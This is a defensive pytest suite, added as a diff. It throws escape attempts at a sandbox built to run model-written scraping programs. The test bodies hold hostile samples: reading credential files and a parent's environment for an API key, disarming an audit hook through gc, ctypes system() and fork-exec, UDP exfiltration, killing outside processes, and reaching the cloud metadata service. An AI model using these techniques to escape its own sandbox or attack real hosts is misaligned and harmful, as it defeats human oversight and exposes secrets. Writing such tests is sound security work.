@@ -1,0 +1,536 @@
+"""Escape attempts against the real sandbox (bubblewrap + seccomp + guard proxy + audit hook).
+
+Each attack is a small program.py of the kind a hostile or confused model could write. For every one:
+the attempt does not succeed (the program never prints ``ESCAPED``), the run is reported as stopped
+(not ``ok``), nothing changes outside the run directory, no connection or datagram reaches a real
+loopback server the run did not allow, and no process of the run is alive afterwards.
+
+Every attack must stay harmless should the sandbox ever regress: nothing here signals processes it
+cannot see or forks without bound. (``kill(-1, SIGKILL)`` as root outside a PID namespace ends every
+process on the machine; it is deliberately not among the attacks.)
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from scrapesmith.collect.isolation import bwrap_path
+from scrapesmith.collect.program import run_program_file
+from scrapesmith.collect.sandbox import SandboxLimits, run_in_sandbox
+from scrapesmith.errors import ScrapesmithError
+
+pytestmark = pytest.mark.skipif(bwrap_path() is None, reason="bubblewrap is not installed (make bubblewrap)")
+
+SECRET = "sk-planted-secret-0123456789"
+
+
+class Listeners:
+    """A TCP and a UDP server on 127.0.0.1 that record whatever reaches them."""
+
+    def __init__(self) -> None:
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", 0))
+        self.udp.settimeout(0.2)
+        self.tcp.settimeout(0.2)
+        self.seen: list[str] = []
+        self._stop = threading.Event()
+        self._threads = [threading.Thread(target=self._accept, daemon=True),
+                         threading.Thread(target=self._receive, daemon=True)]
+        for thread in self._threads:
+            thread.start()
+
+    @property
+    def tcp_port(self) -> int:
+        return self.tcp.getsockname()[1]
+
+    @property
+    def udp_port(self) -> int:
+        return self.udp.getsockname()[1]
+
+    def _accept(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, peer = self.tcp.accept()
+            except OSError:
+                continue
+            self.seen.append(f"tcp from {peer}")
+            conn.close()
+
+    def _receive(self) -> None:
+        while not self._stop.is_set():
+            try:
+                data, peer = self.udp.recvfrom(2048)
+            except OSError:
+                continue
+            self.seen.append(f"udp {data!r} from {peer}")
+
+    def close(self) -> None:
+        self._stop.set()
+        for thread in self._threads:
+            thread.join(timeout=2)
+        self.tcp.close()
+        self.udp.close()
+
+
+@pytest.fixture(scope="module")
+def listeners():
+    servers = Listeners()
+    yield servers
+    servers.close()
+
+
+@pytest.fixture(scope="module")
+def isolated(tmp_path_factory):
+    """Before any attack: the sandbox really is in effect (own PID namespace, no /etc/passwd)."""
+    run_dir = tmp_path_factory.mktemp("probe")
+    program = run_dir / "program.py"
+    program.write_text("import os\nprint(os.getpid(), os.path.exists('/etc/passwd'))\n")
+    result = run_in_sandbox(program, run_dir, [])
+    if not (result.ok and result.isolated and result.stdout.split() == ["2", "False"]):
+        pytest.fail(f"the sandbox is not in effect, refusing to run the attacks: {result.stdout} {result.stderr}")
+
+
+@pytest.fixture()
+def victim():
+    """A process outside the sandbox that nothing inside may signal."""
+    process = subprocess.Popen(["sleep", "120"])
+    yield process
+    process.kill()
+    process.wait()
+
+
+@pytest.fixture()
+def arena(tmp_path, listeners, monkeypatch, isolated):
+    """A run directory inside ``tmp_path`` and planted bait outside it; the caller's env holds a secret."""
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    run_dir = tmp_path / "run"
+    run_dir.mkdir()
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim.txt").write_text("untouched")
+    (outside / "secret.txt").write_text(SECRET)
+    listeners.seen.clear()
+    return run_dir, outside
+
+
+def _snapshot(root: Path, skip: Path) -> dict[str, tuple[int, int, int]]:
+    state = {}
+    for path in root.rglob("*"):
+        if skip == path or skip in path.parents:
+            continue
+        info = path.lstat()
+        state[str(path)] = (info.st_mtime_ns, info.st_size, info.st_uid)
+    return state
+
+
+def _alive(marker: str) -> list[str]:
+    """Processes whose command line mentions ``marker`` (the program's unique path)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit() or int(entry.name) == os.getpid():
+            continue
+        try:
+            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if marker in cmdline:
+            found.append(f"{entry.name}: {cmdline}")
+    return found
+
+
+def attack(arena, listeners, body: str, wall: float = 20.0, allow: list[str] | None = None):
+    """Run the attack ``body`` in the sandbox and check every invariant; return the result."""
+    run_dir, outside = arena
+    tmp = run_dir.parent
+    program = run_dir / "program.py"
+    code = textwrap.dedent(body).format(outside=str(outside), tcp=listeners.tcp_port, udp=listeners.udp_port,
+                                        run=str(run_dir), secret=SECRET)
+    program.write_text(code)
+    before = _snapshot(tmp, run_dir)
+    result = run_in_sandbox(program, run_dir, allow or [], SandboxLimits(wall_seconds=wall, cpu_seconds=30))
+    time.sleep(0.3)
+    assert "ESCAPED" not in result.stdout, result.stdout + result.stderr
+    assert SECRET not in result.stdout + result.stderr
+    assert not result.ok, f"the attack ran to the end unreported: {result.stdout} {result.stderr}"
+    assert _snapshot(tmp, run_dir) == before, "something changed outside the run directory"
+    assert (outside / "victim.txt").read_text() == "untouched"
+    assert listeners.seen == [], listeners.seen
+    assert _alive(str(program)) == [] and _alive(str(run_dir)) == []
+    return result
+
+
+def test_reading_etc_passwd(arena, listeners):
+    attack(arena, listeners, """
+        print("ESCAPED" if "root:" in open("/etc/passwd").read() else "no passwd")
+    """)
+
+
+def test_reading_the_parents_environ_for_a_planted_key(arena, listeners):
+    attack(arena, listeners, """
+        import os, pathlib
+        for entry in pathlib.Path("/proc").iterdir():
+            if entry.name.isdigit():
+                try:
+                    if b"{secret}" in (entry / "environ").read_bytes():
+                        print("ESCAPED")
+                except OSError:
+                    pass
+        open(f"/proc/{{os.getppid()}}/environ").read()  # the parent, if it were visible
+        raise SystemExit("ppid environ readable" if os.getppid() > 1 else "no parent visible")
+    """)
+
+
+def test_the_environment_is_scrubbed(arena, listeners):
+    result = attack(arena, listeners, """
+        import os
+        if any("{secret}" in v for v in os.environ.values()) or "OPENAI_API_KEY" in os.environ:
+            print("ESCAPED")
+        raise SystemExit("env: " + ",".join(sorted(os.environ)))
+    """)
+    assert "OPENAI_API_KEY" not in result.stderr
+
+
+def test_reading_ssh_keys_in_the_callers_home(arena, listeners):
+    attack(arena, listeners, f"""
+        import os
+        print(os.listdir({str(Path.home() / ".ssh")!r}))
+        print("ESCAPED")
+    """)
+
+
+def test_reading_a_host_file_outside_the_run_dir(arena, listeners):
+    attack(arena, listeners, """
+        print("ESCAPED", open("{outside}/secret.txt").read())
+    """)
+
+
+def test_writing_through_os_open_with_dir_fd(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        parent = os.open("..", os.O_RDONLY)
+        fd = os.open("escape.txt", os.O_CREAT | os.O_WRONLY, dir_fd=parent)
+        os.write(fd, b"x")
+        print("ESCAPED")
+    """)
+
+
+def test_writing_with_sqlite_outside(arena, listeners):
+    attack(arena, listeners, """
+        import sqlite3
+        db = sqlite3.connect("{outside}/stolen.db")
+        db.execute("create table t (x)")
+        db.commit()
+        print("ESCAPED")
+    """)
+
+
+def test_mkfifo_outside(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        os.mkfifo("{outside}/pipe")
+        print("ESCAPED")
+    """)
+
+
+def test_utime_of_a_host_file(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        os.utime("{outside}/victim.txt", (0, 0))
+        print("ESCAPED")
+    """)
+
+
+def test_chown_of_a_file(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        open("mine.txt", "w").write("x")
+        os.chown("mine.txt", 1234, 1234)
+        os.chown("{outside}/victim.txt", 1234, 1234)
+        print("ESCAPED")
+    """)
+
+
+def test_monkeypatched_realpath_then_write_outside(arena, listeners):
+    attack(arena, listeners, """
+        import os.path
+        os.path.realpath = lambda path, **kw: "{run}/fine.txt"
+        open("{outside}/escape.txt", "w").write("x")
+        print("ESCAPED")
+    """)
+
+
+def test_writing_through_proc_self_fd(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        fd = os.open(".", os.O_RDONLY)
+        open(f"/proc/self/fd/{{fd}}/../escape.txt", "w").write("x")
+        print("ESCAPED")
+    """)
+
+
+def test_writing_into_the_virtualenv_and_package(arena, listeners):
+    attack(arena, listeners, """
+        import sys, scrapesmith, os
+        target = os.path.join(os.path.dirname(scrapesmith.__file__), "planted.py")
+        fd = os.open(target, os.O_CREAT | os.O_WRONLY)
+        print("ESCAPED", target)
+    """)
+
+
+def test_disarming_the_hook_through_frames_and_gc_then_escaping(arena, listeners):
+    """Rewrite the audit hook's closure (its run directory and allow-list) through ``gc``, then try everything."""
+    attack(arena, listeners, """
+        import gc, os, socket, sys, pathlib
+        for obj in gc.get_objects():
+            if callable(obj) and getattr(obj, "__name__", "") == "hook" and getattr(obj, "__closure__", None):
+                for cell in obj.__closure__:
+                    if isinstance(cell.cell_contents, pathlib.Path):
+                        cell.cell_contents = pathlib.Path("/")
+                    elif isinstance(cell.cell_contents, set):
+                        cell.cell_contents.add(("127.0.0.1", {tcp}))
+        frame = sys._getframe()
+        while frame.f_back:
+            frame = frame.f_back
+        frame.f_globals.get("__builtins__")
+        try:
+            socket.create_connection(("127.0.0.1", {tcp}), timeout=3)
+            print("ESCAPED tcp")
+        except OSError as exc:
+            print("connect failed:", exc)
+        try:
+            open("{outside}/escape.txt", "w").write("x")
+            print("ESCAPED write")
+        except OSError as exc:
+            print("write failed:", exc)
+        os.system("touch {outside}/by-system")
+        raise SystemExit("still confined")
+    """)
+
+
+def test_ctypes_system(arena, listeners):
+    attack(arena, listeners, """
+        import ctypes
+        status = ctypes.CDLL(None).system(b"touch {outside}/by-ctypes; echo ESCAPED")
+        raise SystemExit(f"system() returned {{status}}")
+    """)
+
+
+def test_ctypes_connect_to_a_loopback_server(arena, listeners):
+    attack(arena, listeners, """
+        import ctypes, socket, struct
+        libc = ctypes.CDLL(None, use_errno=True)
+        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
+        addr = struct.pack("!HH4s8x", socket.AF_INET, {tcp}, socket.inet_aton("127.0.0.1"))
+        addr = struct.pack("=H", socket.AF_INET) + addr[2:]
+        if libc.connect(fd, addr, len(addr)) == 0:
+            print("ESCAPED")
+        raise SystemExit(f"connect failed, errno {{ctypes.get_errno()}}")
+    """)
+
+
+def test_posixsubprocess_fork_exec(arena, listeners):
+    attack(arena, listeners, """
+        import _posixsubprocess, os, sys
+        args = [b"/bin/sh", b"-c", b"touch {outside}/by-fork-exec; echo ESCAPED"]
+        pid = _posixsubprocess.fork_exec(args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1,
+                                         *os.pipe(), False, False, -1, None, None, None, -1, None, False)
+        os.waitpid(pid, 0)
+    """)
+
+
+def test_multiprocessing_child(arena, listeners):
+    attack(arena, listeners, """
+        import multiprocessing
+        def child():
+            open("{outside}/by-child", "w").write("x")
+            print("ESCAPED")
+        if __name__ == "__main__":
+            process = multiprocessing.get_context("fork").Process(target=child)
+            process.start()
+            process.join()
+    """)
+
+
+def test_udp_sendto(arena, listeners):
+    attack(arena, listeners, """
+        import socket
+        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        udp.sendto(b"leak {secret}", ("127.0.0.1", {udp}))
+        print("sent")
+    """)
+
+
+def test_udp_sendto_through_ctypes(arena, listeners):
+    attack(arena, listeners, """
+        import ctypes, socket, struct
+        libc = ctypes.CDLL(None, use_errno=True)
+        fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
+        addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", {udp}, socket.inet_aton("127.0.0.1"))
+        sent = libc.sendto(fd, b"leak", 4, 0, addr, len(addr))
+        raise SystemExit(f"sendto returned {{sent}}, errno {{ctypes.get_errno()}}")
+    """)
+
+
+def test_killing_a_process_outside(arena, listeners, victim):
+    attack(arena, listeners, f"""
+        import os, signal
+        os.kill({victim.pid}, signal.SIGKILL)
+        print("ESCAPED")
+    """)
+    assert victim.poll() is None, "a process outside the sandbox was killed"
+
+
+def test_fork_bomb(arena, listeners):
+    attack(arena, listeners, """
+        import ctypes
+        libc = ctypes.CDLL(None)
+        children = []
+        for _ in range(200):  # bounded and not recursive, so a regression fails the test, not the machine
+            pid = libc.fork()
+            if pid == 0:
+                libc._exit(0)
+            children.append(pid)
+        if all(pid < 0 for pid in children):
+            raise SystemExit("fork refused every time")
+        print("ESCAPED", children[:5])
+    """, wall=15)
+
+
+def test_os_fork_and_system(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        os.system("touch {outside}/by-os-system")
+        os.fork()
+        print("ESCAPED")
+    """)
+
+
+def test_setsid_grandchild_does_not_outlive_the_wall_limit(arena, listeners):
+    run_dir, _outside = arena
+    result = attack(arena, listeners, """
+        import ctypes, os, time
+        libc = ctypes.CDLL(None)
+        if libc.fork() == 0:
+            libc.setsid()
+            if libc.fork() == 0:
+                time.sleep(4)
+                open("{run}/grandchild-was-here", "w").write("x")
+                print("ESCAPED")
+            os._exit(0)
+        time.sleep(30)
+    """, wall=2)
+    assert result.reason == "wall-limit"
+    time.sleep(4)
+    assert not (run_dir / "grandchild-was-here").exists()
+    assert _alive(str(run_dir)) == []
+
+
+def test_raw_socket_to_an_unallowed_server(arena, listeners):
+    attack(arena, listeners, """
+        import socket
+        socket.create_connection(("127.0.0.1", {tcp}), timeout=3)
+        print("ESCAPED")
+    """)
+
+
+def test_talking_to_the_proxy_directly_about_an_unallowed_server(arena, listeners):
+    result = attack(arena, listeners, """
+        import os, socket
+        path = os.environ["SCRAPESMITH_SANDBOX_PROXY"].removeprefix("unix:")
+        answers = []
+        for request in (b"GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
+                        b"CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\n\\r\\n",
+                        b"CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n"):
+            conn = socket.socket(socket.AF_UNIX)
+            conn.connect(path)
+            conn.sendall(request)
+            answers.append(conn.recv(200).split(b"\\r\\n")[0])
+        if any(b" 200 " in a for a in answers):
+            print("ESCAPED", answers)
+        raise SystemExit(f"proxy answered {{answers}}")
+    """)
+    assert "403" in result.stderr and "not allowed for this run" in result.stderr
+
+
+def test_program_allowing_itself_the_metadata_service(arena, listeners):
+    result = attack(arena, listeners, """
+        from scrapesmith.collect.runtime import Collection
+        ALLOW_HOSTS = ["169.254.169.254:80", "127.0.0.1:{tcp}"]
+        with Collection("p", allow_hosts=ALLOW_HOSTS, delay=0) as run:
+            for url in ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:{tcp}/"):
+                try:
+                    run.fetch(url)
+                    print("ESCAPED", url)
+                except Exception as exc:
+                    print("refused:", exc)
+            raise SystemExit("nothing fetched")
+    """)
+    assert "169.254.169.254:80 is not allowed for this run" in result.stdout
+    assert f"127.0.0.1:{listeners.tcp_port} is not allowed for this run" in result.stdout
+
+
+def test_rerun_refuses_a_program_that_allows_itself_hosts(arena, listeners):
+    run_dir, _outside = arena
+    program = run_dir / "program.py"
+    program.write_text('ALLOW_HOSTS = ["169.254.169.254:80"]\nprint("ESCAPED")\n')
+    with pytest.raises(ScrapesmithError, match=r"declares ALLOW_HOSTS 169\.254\.169\.254:80.*--allow-host"):
+        run_program_file(program, [])
+    assert not (run_dir / "dataset.csv").exists()
+
+
+def test_symlink_out_of_the_run_dir(arena, listeners):
+    attack(arena, listeners, """
+        import os
+        os.symlink("{outside}", "link")
+        print("ESCAPED", open("link/secret.txt").read())
+    """)
+
+
+def test_abstract_unix_socket_and_host_sockets(arena, listeners):
+    attack(arena, listeners, """
+        import ctypes, socket, glob
+        libc = ctypes.CDLL(None, use_errno=True)
+        reached = []
+        for path in glob.glob("/run/*.sock") + glob.glob("/var/run/*.sock") + glob.glob("/tmp/.X11-unix/*"):
+            reached.append(path)
+        fd = libc.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0)
+        addr = (1).to_bytes(2, "little") + b"\\0/tmp/.X11-unix/X0"
+        if libc.connect(fd, addr, len(addr)) == 0:
+            reached.append("abstract X0")
+        if reached:
+            print("ESCAPED", reached)
+        raise SystemExit("no host socket reachable")
+    """)
+
+
+def test_a_killed_caller_takes_the_sandbox_with_it(arena, listeners):
+    """``--die-with-parent``: the caller dies (SIGKILL, no cleanup), the sandboxed program dies too."""
+    run_dir, _outside = arena
+    program = run_dir / "program.py"
+    program.write_text("import time\ntime.sleep(60)\n")
+    caller = subprocess.Popen([
+        sys.executable, "-c",
+        ("from scrapesmith.collect.sandbox import run_in_sandbox; "
+         f"run_in_sandbox({str(program)!r}, {str(run_dir)!r}, [])")],
+        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")})
+    deadline = time.monotonic() + 20
+    while not _alive(f"guard {program}") and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _alive(f"guard {program}"), "the sandboxed program never started"
+    caller.send_signal(signal.SIGKILL)
+    caller.wait()
+    deadline = time.monotonic() + 5
+    while _alive(str(program)) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _alive(str(program)) == []
